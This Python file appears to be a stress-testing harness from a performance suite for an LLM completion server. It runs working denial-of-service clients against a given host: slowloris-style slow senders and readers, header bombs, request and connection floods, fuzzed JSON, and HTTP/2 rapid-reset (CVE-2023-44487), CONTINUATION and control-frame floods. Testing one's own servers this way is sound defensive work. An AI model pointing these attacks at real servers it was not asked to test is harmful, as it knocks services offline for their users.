"""Clients that mean harm, all at once, from a process of their own.

    echo 30 | python -m perf.attacks HOST PORT --model NAME

Each attack is a client that does one harmful thing over and over on raw sockets, and never minds
what it is told. For each line of standard input all attack for so many seconds; then a line of JSON
says how often each has done it. What is sent costs little to make, so that the server is what has
the work. Knows nothing of what comes of it.
"""

import asyncio
import functools
import json
import random
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Any, Final

import click
import h2.config
import h2.connection
from hpack import Encoder

CLIENTS: Final = 3  # of each attack
WAIT_S: Final = 5.0  # for the server to take or say something; then on to the next
SMALL_WINDOW: Final = 4096
_FRAME_BYTES: Final = 16_384
_DATA, _HEADERS, _RST_STREAM, _CONTINUATION = 0, 1, 3, 9
_END_STREAM, _END_HEADERS = 1, 4


@dataclass(frozen=True, slots=True)
class Victim:
    """Whom the attacks are for."""

    host: str
    port: int
    model: str

    def body(self, **more: Any) -> dict[str, Any]:
        return {"model": self.model, "prompt": "Once upon a time", "max_tokens": 8, **more}

    def post(self, body: bytes, path: str = "/v1/completions", head: str = "") -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nhost: {self.host}\r\ncontent-type: application/json\r\n"
            f"{head}content-length: {len(body)}\r\n\r\n"
        ).encode() + body

    async def connect(self, receive_bytes: int | None = None) -> socket.socket:
        """receive_bytes  size of the receive buffer, for those who will not read"""
        connection = socket.socket()
        connection.setblocking(False)
        if receive_bytes is not None:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        await asyncio.get_running_loop().sock_connect(connection, (self.host, self.port))
        return connection

    async def say(self, sent: bytes, *, listens: bool = True) -> None:
        """Sends on a connection of its own, takes one answer at most, and closes."""
        loop = asyncio.get_running_loop()
        with await self.connect() as connection:
            await loop.sock_sendall(connection, sent)
            if listens:
                await loop.sock_recv(connection, 1 << 16)


Attack = Callable[[Victim, random.Random], Awaitable[None]]


# HTTP/1.1


async def fuzzed_bodies(victim: Victim, dice: random.Random) -> None:
    """JSON that is wrong, deep, huge, cut, or has bytes changed."""
    body = bytearray(json.dumps(victim.body(stop=["x"], logit_bias={"5": 1.5})).encode())
    match dice.randrange(5):
        case 0:
            for _ in range(dice.randint(1, 8)):
                body[dice.randrange(len(body))] = dice.randrange(256)
        case 1:
            body = bytearray(b'{"prompt":' + b"[" * dice.randint(10, 50_000))
        case 2:
            del body[dice.randrange(len(body)) :]
        case 3:
            ids = b"[" + b"123456789," * dice.randint(1, 200_000) + b"1]"
            body = bytearray(json.dumps(victim.body()).encode().replace(b'"Once upon a time"', ids))
        case _:
            field = dice.choice(["max_tokens", "n", "temperature", "stop", "seed", "prompt"])
            value: object = dice.choice([-1, 1e400, 10**30, None, "", [], {}, [[]], "\ud800", True])
            body = bytearray(json.dumps(victim.body(**{field: value})).encode())
    await victim.say(victim.post(bytes(body)))


async def garbage(victim: Victim, dice: random.Random) -> None:
    await victim.say(dice.randbytes(dice.randint(1, 4096)))


async def half_closed(victim: Victim, dice: random.Random) -> None:
    """Ends its sending half in the middle of a request or behind it, and stays for a while."""
    sent = victim.post(json.dumps(victim.body()).encode())
    with await victim.connect() as connection:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, sent[: dice.choice([dice.randrange(len(sent)), None])])
        connection.shutdown(socket.SHUT_WR)
        await asyncio.sleep(dice.uniform(0, 0.5))
        if dice.random() < 0.5:
            await loop.sock_recv(connection, 1 << 16)


async def slow_readers(victim: Victim, dice: random.Random) -> None:
    """Asks for a long stream, and takes next to nothing of it."""
    body = victim.body(stream=True, max_tokens=dice.randint(50, 1000))
    with await victim.connect(SMALL_WINDOW) as connection:
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, victim.post(json.dumps(body).encode()))
        for _ in range(dice.randint(1, 20)):
            await loop.sock_recv(connection, 64)
            await asyncio.sleep(0.1)


async def slow_senders(victim: Victim, dice: random.Random) -> None:
    """A head, a byte at a time, that never ends."""
    with await victim.connect() as connection:
        for byte in b"GET /health HTTP/1.1\r\nx-" + b"y" * dice.randint(1, 30):
            await asyncio.get_running_loop().sock_sendall(connection, bytes([byte]))
            await asyncio.sleep(0.05)


async def header_bombs(victim: Victim, dice: random.Random) -> None:
    lines = b"x-%d: " % dice.randrange(100) + b"a" * dice.randint(0, 2000) + b"\r\n"
    await victim.say(b"GET /health HTTP/1.1\r\nhost: x\r\n" + lines * dice.randint(1, 2000))


async def floods(victim: Victim, dice: random.Random) -> None:
    """A thousand requests in one breath on one connection, and nobody who reads the answers."""
    request = b"GET /health HTTP/1.1\r\nhost: x\r\n\r\n"
    if dice.random() < 0.3:
        request = victim.post(json.dumps(victim.body(max_tokens=1)).encode())
    await victim.say(request * dice.randint(1, 1000), listens=dice.random() < 0.5)


async def connection_floods(victim: Victim, dice: random.Random) -> None:
    """Connections on which nothing is said."""
    opened = await asyncio.gather(*(victim.connect() for _ in range(100)))
    await asyncio.sleep(dice.uniform(0, 0.5))
    for connection in opened:
        connection.close()


# HTTP/2


def new_http2() -> h2.connection.H2Connection:
    config = h2.config.H2Configuration(
        validate_outbound_headers=False, normalize_outbound_headers=False
    )
    connection = h2.connection.H2Connection(config)
    connection.initiate_connection()
    return connection


def head(victim: Victim, method: str = "POST", path: str = "/v1/completions") -> Any:
    return [
        (":method", method), (":scheme", "http"), (":authority", victim.host), (":path", path),
    ]  # fmt: skip


async def rapid_resets(victim: Victim, dice: random.Random) -> None:
    """Opens streams and resets each at once: the attack of CVE-2023-44487."""
    sent = [new_http2().data_to_send()]
    block, body = Encoder().encode(head(victim)), json.dumps(victim.body()).encode()
    for stream_id in range(1, 2 * dice.randint(1, 1000), 2):
        sent.append(_frame(_HEADERS, _END_HEADERS, stream_id, block))
        if dice.random() < 0.2:
            sent.append(_frame(_DATA, _END_STREAM, stream_id, body))
        sent.append(_frame(_RST_STREAM, 0, stream_id, b"\0\0\0\x08"))
    await victim.say(b"".join(sent))


async def http2_header_bombs(victim: Victim, dice: random.Random) -> None:
    """Header blocks that take long to decode, in one frame or in many that never end."""
    sent = new_http2().data_to_send()
    for stream_id in range(1, 2 * dice.randint(1, 20), 2):
        block = _block(victim, dice.choice([100, 8000, 25_000, 200_000]))
        parts = [block[at : at + _FRAME_BYTES] for at in range(0, len(block), _FRAME_BYTES)]
        sent += _frame(_HEADERS, 0 if len(parts) > 1 else _END_HEADERS, stream_id, parts[0])
        sent += b"".join(_frame(_CONTINUATION, 0, stream_id, part) for part in parts[1:])
    await victim.say(sent)


@functools.cache
def _block(victim: Victim, value_bytes: int) -> bytes:
    block: bytes = Encoder().encode([*head(victim), ("x", "a" * value_bytes)], huffman=True)
    return block


def _frame(kind: int, flags: int, stream_id: int, content: bytes) -> bytes:
    head = struct.pack("!I", len(content))[1:] + struct.pack("!BBI", kind, flags, stream_id)
    return head + content


async def control_floods(victim: Victim, dice: random.Random) -> None:
    """Pings, settings, priorities and window updates, each of which wants an answer or a look."""
    sent = new_http2().data_to_send()
    frames = [
        _frame(6, 0, 0, b"12345678"), _frame(4, 0, 0, b""), _frame(2, 0, 1, bytes(5)),
        _frame(8, 0, 0, b"\0\0\0\1"), _frame(10, 0, 0, b"unknown"),
    ]  # fmt: skip
    await victim.say(sent + dice.choice(frames) * dice.randint(1, 10_000))


async def closed_windows(victim: Victim, dice: random.Random) -> None:
    """Streams whose client gives them no window, left open for a while."""
    protocol = new_http2()
    protocol.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    body = json.dumps(victim.body(stream=True, max_tokens=50)).encode()
    for stream_id in range(1, 2 * dice.randint(1, 20), 2):
        protocol.send_headers(stream_id, head(victim))
        protocol.send_data(stream_id, body, end_stream=True)
    with await victim.connect() as connection:
        await asyncio.get_running_loop().sock_sendall(connection, protocol.data_to_send())
        await asyncio.sleep(dice.uniform(0, 1))


ATTACKS: Final[tuple[Attack, ...]] = (
    fuzzed_bodies, garbage, half_closed, slow_readers, slow_senders, header_bombs, floods,
    connection_floods, rapid_resets, http2_header_bombs, control_floods, closed_windows,
)  # fmt: skip


async def attack_all(
    victim: Victim, attacks: list[Attack], seconds: float, seed: str
) -> Counter[str]:
    """How often each attack was done, or cut short by the server."""
    done: Counter[str] = Counter()
    until_s = time.monotonic() + seconds

    async def again_and_again(attack: Attack, dice: random.Random) -> None:
        while time.monotonic() < until_s:
            with suppress(OSError):  # a TimeoutError is one
                async with asyncio.timeout(WAIT_S):
                    await attack(victim, dice)
            done[attack.__name__] += 1
            await asyncio.sleep(0)

    await asyncio.gather(*(
        again_and_again(attack, random.Random(f"{seed} {attack.__name__} {index}"))
        for attack in attacks
        for index in range(CLIENTS)
    ))  # fmt: skip
    return done


@click.command()
@click.argument("host")
@click.argument("port", type=int)
@click.option("--model", required=True)
@click.option("--seed", default=0, show_default=True)
@click.option("--only", help="One attack, by its name.")
def main(host: str, port: int, model: str, seed: int, only: str | None) -> None:
    """Attacks a server for as many seconds as each line of standard input says."""
    attacks = [attack for attack in ATTACKS if only in (None, attack.__name__)]
    if not attacks:
        names = ", ".join(attack.__name__ for attack in ATTACKS)
        raise click.UsageError(f"--only is {only!r}; it must be one of {names}")
    victim = Victim(host, port, model)
    for turn, line in enumerate(sys.stdin):
        done = asyncio.run(attack_all(victim, attacks, float(line), f"{seed} {turn}"))
        print(json.dumps(done), flush=True)


if __name__ == "__main__":
    main()
